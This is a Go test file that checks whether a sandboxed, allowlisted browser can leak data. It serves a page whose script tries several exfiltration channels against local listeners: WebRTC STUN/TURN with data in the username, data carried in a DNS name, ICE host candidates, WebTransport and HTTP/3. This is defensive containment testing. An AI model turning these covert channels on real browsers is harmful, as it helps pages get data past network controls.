package runner

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/webcodex/webcodex/cmd/internal/localapi"
	"github.com/webcodex/webcodex/platform"
)

// deniedListeners are a page's would-be destinations outside the allowlist:
// UDP sockets that log every datagram and TCP listeners that log every
// accept, one per attack so each can be told apart.
type deniedListeners struct {
	mu   sync.Mutex
	seen map[string]int
	udp  map[string]*net.UDPConn
	tcp  map[string]net.Listener
}

func newDeniedListeners(t *testing.T, udp, tcp []string) *deniedListeners {
	d := &deniedListeners{seen: map[string]int{}, udp: map[string]*net.UDPConn{}, tcp: map[string]net.Listener{}}
	for _, name := range udp {
		c, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { c.Close() })
		d.udp[name] = c
		go func() { // ends when the cleanup closes c
			buf := make([]byte, 2048)
			for {
				if _, _, err := c.ReadFromUDP(buf); err != nil {
					return
				}
				d.hit("udp " + name)
			}
		}()
	}
	for _, name := range tcp {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { ln.Close() })
		d.tcp[name] = ln
		go func() { // ends when the cleanup closes ln
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				d.hit("tcp " + name)
				c.Close()
			}
		}()
	}
	return d
}

func (d *deniedListeners) hit(what string) {
	d.mu.Lock()
	d.seen[what]++
	d.mu.Unlock()
}

func (d *deniedListeners) hits() map[string]int {
	d.mu.Lock()
	defer d.mu.Unlock()
	out := map[string]int{}
	for k, v := range d.seen {
		out[k] = v
	}
	return out
}

func (d *deniedListeners) udpPort(name string) int {
	return d.udp[name].LocalAddr().(*net.UDPAddr).Port
}
func (d *deniedListeners) tcpPort(name string) int {
	return d.tcp[name].Addr().(*net.TCPAddr).Port
}

// packetAttackPage is a page that tries every non-HTTP way out at once:
// STUN over UDP, TURN over UDP (with a USERNAME the page chose) and over
// TCP, ICE connectivity checks to a host candidate the page names, a
// WebTransport session (QUIC), an https fetch to a port that only speaks
// UDP (an HTTP/3 attempt), and a STUN server by a name the page chose (a
// DNS query that carries data). Each attempt is bounded by the page; when
// all have settled it fetches /settled from its own origin.
func packetAttackPage(d *deniedListeners) string {
	return fmt.Sprintf(`<!doctype html><title>packets</title><script>
const bounded = (p, ms) => Promise.race([p, new Promise(r => setTimeout(r, ms))]);
async function gather(cfg) {
  const pc = new RTCPeerConnection(cfg);
  pc.createDataChannel("x");
  const done = new Promise(r => { pc.onicegatheringstatechange = () => pc.iceGatheringState === "complete" && r(); });
  await pc.setLocalDescription(await pc.createOffer());
  await bounded(done, 6000);
  pc.close();
}
async function hostCandidate(port) {
  const a = new RTCPeerConnection(), b = new RTCPeerConnection();
  a.createDataChannel("x");
  await a.setLocalDescription(await a.createOffer());
  await b.setRemoteDescription(a.localDescription);
  await b.setLocalDescription(await b.createAnswer());
  await a.setRemoteDescription(b.localDescription);
  const failed = new Promise(r => { a.oniceconnectionstatechange = () => a.iceConnectionState === "failed" && r(); });
  await a.addIceCandidate({candidate: "candidate:1 1 udp 2122260223 127.0.0.1 " + port + " typ host", sdpMLineIndex: 0});
  await bounded(failed, 6000);
  a.close(); b.close();
}
async function webTransport(port) {
  const wt = new WebTransport("https://127.0.0.1:" + port + "/leak?d=page-data");
  await bounded(wt.ready.catch(() => {}), 6000);
  try { wt.close(); } catch (e) {}
}
const tries = [
  gather({iceServers: [{urls: "stun:127.0.0.1:%[1]d"}]}),
  gather({iceServers: [{urls: "turn:127.0.0.1:%[2]d?transport=udp", username: "page-data-user", credential: "x"}]}),
  gather({iceServers: [{urls: "turn:127.0.0.1:%[3]d?transport=tcp", username: "page-data-user", credential: "x"}]}),
  gather({iceServers: [{urls: "stun:page-data-carried-by-dns.webcodex-test.invalid:%[1]d"}]}),
  hostCandidate(%[4]d),
  webTransport(%[5]d),
  bounded(fetch("https://127.0.0.1:%[6]d/h3?d=page-data").catch(() => {}), 6000),
];
Promise.allSettled(tries).then(rs => fetch("/settled?" + rs.map(r => r.status).join(",")));
</script>`, d.udpPort("stun"), d.udpPort("turn"), d.tcpPort("turn"), d.udpPort("host"),
		d.udpPort("webtransport"), d.udpPort("h3"))
}

// runPacketAttack opens the attack page in a browser launched with req and
// returns once the page says every attempt has settled.
func runPacketAttack(t *testing.T, h *harness, req localapi.LaunchRequest, srv *httptest.Server, settled chan string) localapi.BrowserInfo {
	t.Helper()
	ctx := context.Background()
	b, err := h.r.Launch(ctx, req)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := h.r.Open(ctx, localapi.OpenRequest{Browser: b.ID, URL: srv.URL + "/"}); err != nil {
		t.Fatal(err)
	}
	select {
	case s := <-settled:
		t.Logf("attempts settled: %s", s)
	case <-time.After(60 * time.Second):
		t.Fatal("the page's attempts never settled")
	}
	return b
}

// TestNoPacketLeavesOwnedBrowser: an owned browser with an allowlist sends
// nothing to a denied destination by any protocol. The same page first runs
// in an owned browser on the open web, a control that must reach the
// denied listeners by STUN, TURN over UDP and over TCP and ICE checks (so
// the attacks are real); under the allowlist every listener logs nothing,
// while the page itself, served by the allowed origin, loads and reports.
// The browser's network has no interface but its own loopback, so the
// WebTransport, HTTP/3 and DNS attempts (which the control need not reach:
// QUIC is off and names resolve elsewhere) have nowhere to go either.
func TestNoPacketLeavesOwnedBrowser(t *testing.T) {
	t.Parallel() // its own Runner and browsers
	if st := platform.PrivateNetwork(); !st.Enabled {
		t.Fatalf("this machine can make network namespaces, but: %s", st.Reason)
	}
	h := newHarness(t)
	udp := []string{"stun", "turn", "host", "webtransport", "h3"}
	var (
		mu      sync.Mutex
		current *deniedListeners
	)
	settled := make(chan string, 1)
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		d := current
		mu.Unlock()
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, packetAttackPage(d))
	})
	mux.HandleFunc("/settled", func(w http.ResponseWriter, r *http.Request) {
		select {
		case settled <- r.URL.RawQuery:
		default:
		}
	})
	srv := httptest.NewServer(mux)
	defer srv.Close()

	control := newDeniedListeners(t, udp, []string{"turn"})
	mu.Lock()
	current = control
	mu.Unlock()
	runPacketAttack(t, h, localapi.LaunchRequest{}, srv, settled)
	got := control.hits()
	t.Logf("open web (control): %v", got)
	for _, want := range []string{"udp stun", "udp turn", "tcp turn", "udp host"} {
		if got[want] == 0 {
			t.Errorf("control: the open-web browser never reached the %s listener: the attack page does not attack", want)
		}
	}

	contained := newDeniedListeners(t, udp, []string{"turn"})
	mu.Lock()
	current = contained
	mu.Unlock()
	b := runPacketAttack(t, h, localapi.LaunchRequest{Allow: []string{srv.URL}}, srv, settled)
	if got := contained.hits(); len(got) != 0 {
		t.Errorf("under the allowlist, denied listeners were reached: %v", got)
	}
	br, err := h.r.browser(b.ID)
	if err != nil {
		t.Fatal(err)
	}
	dev, err := os.ReadFile("/proc/" + strconv.Itoa(procOf(br).PID()) + "/net/dev")
	if err != nil {
		t.Fatal(err)
	}
	var ifaces []string
	for _, line := range strings.Split(string(dev), "\n")[2:] {
		if name, _, ok := strings.Cut(line, ":"); ok {
			ifaces = append(ifaces, strings.TrimSpace(name))
		}
	}
	if len(ifaces) != 1 || ifaces[0] != "lo" {
		t.Errorf("the allowlisted browser's network has interfaces %q, want only its own lo", ifaces)
	}
}
